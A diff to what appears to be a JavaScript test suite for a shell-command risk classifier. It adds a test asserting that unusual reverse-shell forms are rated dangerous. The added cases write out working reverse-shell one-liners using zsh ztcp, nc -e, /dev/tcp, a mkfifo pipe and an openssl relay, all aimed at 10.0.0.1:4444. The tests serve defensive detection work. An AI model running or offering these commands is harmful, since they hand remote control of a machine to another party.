@@ -62,3 +62,18 @@ describe('reverse shells', () => {
     expect(below(['nc -zv host 22', 'echo hi | nc host 1234', 'curl https://example.com', 'ssh host uptime', 'sh -c "ls" | nc host 1'], 'caution', true)).toEqual([]);
   });
 });
+
+describe('reverse shells, less common forms', () => {
+  it('are dangerous', () => {
+    expect(below([
+      "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+      'nc.traditional -e /bin/sh 10.0.0.1 4444',
+      'xterm -display 10.0.0.1:1',
+      'exec 3<>/dev/tcp/10.0.0.1/4444; bash <&3 >&3 2>&3',
+      'mkfifo p; nc -l 4444 < p | bash > p',
+      'bash -i 2>&1 | nc 10.0.0.1 4444',
+      'openssl s_client -quiet -connect 10.0.0.1:4444 | /bin/sh | openssl s_client -quiet -connect 10.0.0.1:4445',
+    ], 'dangerous')).toEqual([]);
+    expect(below(['xterm', 'xterm -display :0', 'ssh -W localhost:22 host'], 'caution', true)).toEqual([]);
+  });
+});
